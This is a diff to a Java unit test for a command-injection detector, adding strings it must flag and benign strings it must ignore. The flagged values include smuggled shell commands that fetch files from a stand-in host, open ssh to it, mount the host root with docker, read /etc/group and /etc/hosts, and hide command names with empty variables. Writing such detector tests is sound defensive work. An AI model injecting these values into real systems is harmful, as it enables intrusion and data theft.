@@ -78,6 +78,13 @@ class CommandInjectionTest {
         "x | ./run.sh -v",
         // no command name at all: the shell itself, or variables assigned in the same value
         "x;$0", "x|${0}", "x && $shell -c true", "a=wh;b=oami;$a$b", "x;p=$'ps\\x20aux'&&$p", "c=ca;d=t;${c}${d} /etc/hosts",
+        // variables the value never assigned expand to nothing: inside the word or as a word of their own
+        // programs by kind (GTFOBins-style tools), tools named like technologies with arguments, any cmdlet
+        "x;aria2c -o /tmp/a http://192.0.2.4/a", "x|sshpass -p pw ssh a@192.0.2.4", "x;lftp -c get http://192.0.2.4/a",
+        "x && git clone https://192.0.2.4/r.git", "x;docker run -v /:/mnt alpine", "x; npm install -g ./pkg",
+        "x; export-clixml -path c:\\x.xml", "x | convertto-json -depth 3", "x;dmidecode",
+        "x\nhead /e*c/gr?up", "x\nmore /???/h?sts",
+        "x;up${z}time", "x;\\u\\p\\t\\i\\m\\e", "x;u\"$@\"ptime", "x|host\"${z}\"name", "x|host${q}name", "x&&who$k", "x;${e}uptime", "x; $nothing hostnamectl", "x;c${u}at /etc/group",
     })
     void detects(String value) {
         assertThat(CommandInjection.detect(value)).as(value).isPresent();
@@ -127,6 +134,8 @@ class CommandInjectionTest {
         "a;./",
         "(./a)",
         "price: $5; total $10", "costs $0", "a=1; then $b", "x;$100 off", "$0.99 each; $1.99 later", "tax=5;$tax%",
+        "java;go;rust", "x\nmore /*/ stars", "a\nsort /?/x", "see c:\\docs;\\windows\\readme", "a;\"$name\" tag", "x;git for beginners", "skills: npm; git", "x; get-together", "tags=docker;kubernetes;helm", "x;set-up guide",
+        "a; ${name} placeholder", "x;$price each", "hi ${user}, welcome", "a; $user.name",
     })
     void ignores(String value) {
         assertThat(CommandInjection.detect(value)).as(value).isEmpty();
